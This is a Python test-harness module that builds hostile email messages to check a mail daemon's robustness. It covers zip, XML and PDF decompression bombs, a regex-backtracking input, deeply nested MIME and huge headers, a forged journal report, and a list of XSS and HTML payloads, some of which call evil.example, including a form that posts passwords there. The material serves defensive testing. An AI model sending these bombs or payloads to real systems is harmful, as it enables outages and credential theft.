"""Hostile mail, built in the test (no binary files in the tree).

Each function returns the bytes of an RFC 5322 message with CRLF line ends,
small on the wire and expensive to read carelessly:

- `office_regex_bombs()`      .docx/.xlsx whose XML is "<t <t <t ..." (a
                              pattern that backtracks made this quadratic)
- `office_zip_bombs()`        .docx/.xlsx whose one member inflates ~1000:1
- `office_xml_bomb()`         billion laughs and one huge text node in a .docx
- `expanding_attachments()`   200 .docx that each hold a million characters
- `pdf_flate_bomb()`          a PDF whose content stream inflates hugely
- `pdf_busy()`                a small PDF that keeps pdftotext busy (many
                              pages sharing one long content stream)
- `nested_multiparts()`       multiparts nested hundreds deep
- `thousand_parts()`          a thousand (or more) MIME parts
- `huge_headers()`            a 1 MB Subject of encoded words, a huge To:
- `forged_journal_report()`   an Exchange journal report from nobody trusted

`ordinary()` gives an ordinary message with a unique word, to show that the
hostile one before it did not hold it up.
"""

from __future__ import annotations

import base64
import io
import secrets
import zipfile
import zlib

from tests.harness import journalgen

_OOXML = "application/vnd.openxmlformats-officedocument."
DOCX = _OOXML + "wordprocessingml.document"
XLSX = _OOXML + "spreadsheetml.sheet"


def _headers(subject: str, extra: list[str] = (), sender: str = "Mallory <mallory@evil.example>") -> list[str]:
    return [f"From: {sender}", "To: victim@acme.example",
            f"Subject: {subject}", f"Message-ID: <{secrets.token_hex(8)}@evil.example>",
            "Date: Thu, 03 Dec 2026 01:00:00 +0000", *extra]


def message(headers: list[str], body: bytes) -> bytes:
    return "\r\n".join(headers).encode("utf-8") + b"\r\n\r\n" + body


def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def _crlf(text: bytes) -> bytes:
    return text.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def mixed(subject: str, parts: list[bytes], extra: list[str] = (), text: str = "see attached") -> bytes:
    """multipart/mixed: a text/plain body, then `parts` (each headers + CRLF CRLF + body)."""
    b = f"b{secrets.token_hex(6)}".encode()
    body = b"--" + b + b"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + text.encode() + b"\r\n"
    for p in parts:
        body += b"--" + b + b"\r\n" + p + b"\r\n"
    body += b"--" + b + b"--\r\n"
    return message(_headers(subject, [*extra, "MIME-Version: 1.0",
                                      f'Content-Type: multipart/mixed; boundary="{b.decode()}"']), body)


def attachment(data: bytes, ctype: str, filename: str) -> bytes:
    return (f"Content-Type: {ctype}; name=\"{filename}\"\r\n"
            f"Content-Disposition: attachment; filename=\"{filename}\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n").encode() + _b64(data)


def ooxml(members: dict[str, bytes]) -> bytes:
    """A zip with [Content_Types].xml and `members`, deflated at level 9."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types/>')
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _office(i: int, xml: bytes) -> bytes:
    if i % 2:
        return attachment(ooxml({"xl/sharedStrings.xml": xml}), XLSX, f"figures{i}.xlsx")
    return attachment(ooxml({"word/document.xml": xml}), DOCX, f"memo{i}.docx")


def office_regex_bombs(n: int = 40, size: int = 300_000) -> bytes:
    """`n` tiny .docx/.xlsx whose XML is "<t <t <t ..." (`size` bytes): the
    shape that cost the old OOXML reader minutes per attachment."""
    xml = b"<w:document>" + b"<t " * (size // 3)
    return mixed("quarterly figures", [_office(i, xml) for i in range(n)])


def office_zip_bombs(n: int = 40, size: int = 64 * 1024 * 1024) -> bytes:
    """`n` .docx/.xlsx each inflating to `size` bytes of markup (~1000:1)."""
    xml = b"<w:document><w:body>" + b"<x/>" * (size // 4) + b"</w:body></w:document>"
    one = ooxml({"word/document.xml": xml})
    xone = ooxml({"xl/sharedStrings.xml": xml})
    parts = [attachment(xone, XLSX, f"f{i}.xlsx") if i % 2 else attachment(one, DOCX, f"m{i}.docx")
             for i in range(n)]
    return mixed("zip bombs", parts)


def office_xml_bomb(text_node: int = 32 * 1024 * 1024) -> bytes:
    """A .docx with a billion-laughs DOCTYPE (entities must never be
    expanded) and one text node of `text_node` characters."""
    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)) + b"]>"
    xml = laughs + b"<w:document><w:body><w:p><w:r><w:t>&lol9;" + b"A" * text_node + \
        b"</w:t></w:r></w:p></w:body></w:document>"
    return mixed("xml bomb", [attachment(ooxml({"word/document.xml": xml}), DOCX, "laughs.docx")])


def expanding_attachments(n: int = 200, chars: int = 1_000_000) -> bytes:
    """`n` small .docx that each hold `chars` characters of text: the
    message that took the daemon from 54 to 650 MiB."""
    word = b"lorem "
    xml = b"<w:document><w:body><w:p><w:r><w:t>" + word * (chars // len(word)) + \
        b"</w:t></w:r></w:p></w:body></w:document>"
    doc = attachment(ooxml({"word/document.xml": xml}), DOCX, "x.docx")
    return mixed("many expanding attachments", [doc.replace(b"x.docx", b"a%d.docx" % i) for i in range(n)])


def pdf(pages: int, stream: bytes, *, filters: int = 1) -> bytes:
    """A PDF of `pages` pages that all show one content stream, deflated
    `filters` times (a chain of FlateDecode filters multiplies the ratio)."""
    data = stream
    for _ in range(filters):
        data = zlib.compress(data, 9)
    flt = b"[" + b" ".join([b"/FlateDecode"] * filters) + b"]"
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Length %d /Filter " % len(data) + flt + b" >>\nstream\n" + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ] + [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
         b"/Resources << /Font << /F1 4 0 R >> >> >>"] * pages
    return pdf_file(objects)


def pdf_file(objects: list[bytes]) -> bytes:
    """A PDF of these objects (numbered from 1, the first the catalog),
    with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_flate_bomb(size: int = 256 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream inflates to `size` bytes
    (twice deflated: a few KB on the wire)."""
    return mixed("pdf flate bomb", [attachment(pdf(1, b" " * size, filters=2), "application/pdf", "bomb.pdf")])


def busy_pdf(pages: int = 500, quiet: bool = False) -> bytes:
    """A PDF of a few KB that keeps pdftotext busy for a long time: `pages`
    pages sharing one content stream of many text operations (`quiet`:
    of white space, so that it writes nothing while it works)."""
    ops = b" " * (8 * 1024 * 1024) if quiet else b"BT /F1 1 Tf " + b"1 0 Td (x) Tj " * 400_000 + b"ET"
    return pdf(pages, ops, filters=2)


def pdf_busy(pages: int = 500, quiet: bool = False) -> bytes:
    """A message with `busy_pdf()` attached."""
    return mixed("scan", [attachment(busy_pdf(pages, quiet), "application/pdf", "scan.pdf")])


def nested_multiparts(depth: int = 300) -> bytes:
    """multipart/mixed nested `depth` deep, a text part at the bottom."""
    body = b"Content-Type: text/plain\r\n\r\ndeep down\r\n"
    for i in range(depth):
        b = b"n%d" % i
        body = (b"Content-Type: multipart/mixed; boundary=\"" + b + b"\"\r\n\r\n--" + b + b"\r\n"
                + body + b"\r\n--" + b + b"--\r\n")
    head, _, inner = body.partition(b"\r\n\r\n")     # the outermost part's Content-Type heads the message
    return message(_headers("nested", ["MIME-Version: 1.0", head.decode()]), inner)


def thousand_parts(n: int = 1500) -> bytes:
    """`n` small text attachments."""
    parts = [b"Content-Type: text/plain; name=\"p%d.txt\"\r\n"
             b"Content-Disposition: attachment; filename=\"p%d.txt\"\r\n\r\npart %d\r\n" % (i, i, i)
             for i in range(n)]
    return mixed("a thousand parts", parts)


def huge_headers(subject_bytes: int = 1024 * 1024, recipients: int = 30_000) -> bytes:
    """A Subject of `subject_bytes` encoded words and a To: of `recipients`
    addresses (each folded onto its own line)."""
    word = "=?utf-8?q?caf=C3=A9?= "
    subject = (word * (subject_bytes // len(word))).strip()
    to = ",\r\n ".join(f'"User {i}" <user{i}@acme.example>' for i in range(recipients))
    head = _headers("x", [f"Cc: {to}", "MIME-Version: 1.0", "Content-Type: text/plain"])
    head = [h if not h.startswith("Subject:") else f"Subject: {subject}" for h in head]
    return message(head, b"huge headers\r\n")


def forged_journal_report(original: bytes | None = None, *, sender: str = "mallory@evil.example",
                          recipients: list[journalgen.Recipient] | None = None) -> bytes:
    """An Exchange journal report around `original` (default: an ordinary
    message) sent by someone who is not a journaling connector; the
    recipients name whoever the forger likes."""
    original = original or ordinary("the real content")
    recipients = recipients or [("to", "ceo@globex.example", None)]
    return journalgen.make_report(original, sender=sender, recipients=recipients)


def ordinary(word: str) -> bytes:
    """An ordinary short message whose body holds `word`."""
    return message(_headers(f"ordinary {word}", ["MIME-Version: 1.0", "Content-Type: text/plain; charset=utf-8"],
                            sender="Alice <alice@globex.example>"),
                   f"Hello,\r\n\r\nthe word is {word}.\r\n".encode())


ALL = {
    "office_regex_bombs": office_regex_bombs,
    "office_zip_bombs": office_zip_bombs,
    "office_xml_bomb": office_xml_bomb,
    "expanding_attachments": expanding_attachments,
    "pdf_flate_bomb": pdf_flate_bomb,
    "pdf_busy": pdf_busy,
    "nested_multiparts": nested_multiparts,
    "thousand_parts": thousand_parts,
    "huge_headers": huge_headers,
}


# --- hostile HTML (what a rendering must neutralise) -----------------------------------

def html_attack_list() -> list[str]:
    """HTML fragments that each try one way to run code, submit a form, load
    remote content or restyle the page."""
    return [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"http://evil.example/track.gif\">",
        "<img src=\"https://evil.example/track.gif\" width=1 height=1>",
        "<body onload=alert(1)>text</body>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">click</a>",
        "<a href=\"&#106;avascript:alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
        "<iframe src=\"http://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<form action=\"http://evil.example/steal\"><input name=password><button>go</button></form>",
        "<style>body { background: url(http://evil.example/bg.png) }</style>",
        "<div style=\"background-image: url('http://evil.example/x')\">x</div>",
        "<p style=\"behavior: url(x.htc)\">x</p>",
        "<object data=\"http://evil.example/x.swf\"></object>",
        "<embed src=\"http://evil.example/x.swf\">",
        "<svg onload=alert(1)><script>alert(2)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
        "<link rel=stylesheet href=\"http://evil.example/x.css\">",
        "<base href=\"http://evil.example/\">",
        "<table background=\"http://evil.example/x.png\"><tr><td>x</td></tr></table>",
        "<video src=\"http://evil.example/x.mp4\" poster=\"http://evil.example/p.png\"></video>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<img src=x onerror=alert(1)//<",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>",
        "<a href=\"http://evil.example/\" onclick=\"alert(1)\" onmouseover=\"alert(2)\">x</a>",
        "<input type=image src=\"http://evil.example/x.png\">",
    ]


def html_attacks() -> str:
    """One HTML document with every attack of html_attack_list(), plus what
    must survive: text, a safe link, an inline image of the message
    (cid:logo@test)."""
    return ("<html><head><title>t</title></head><body>"
            "<p>visible text</p><a href=\"https://example.org/ok\">a safe link</a>"
            "<img src=\"cid:logo@test\" alt=\"logo\">"
            + "".join(html_attack_list()) + "</body></html>")
